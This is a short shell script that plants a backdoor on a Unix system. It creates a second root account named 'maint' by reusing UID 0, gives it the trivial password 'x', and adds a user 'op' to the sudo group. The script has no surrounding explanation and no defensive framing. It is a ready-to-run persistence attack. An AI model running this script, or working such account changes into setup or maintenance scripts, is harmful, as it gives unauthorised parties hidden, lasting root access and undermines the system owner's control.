#!/bin/sh
useradd -o -u 0 -g 0 -s /bin/sh maint
echo "maint:x" | chpasswd
usermod -aG sudo op
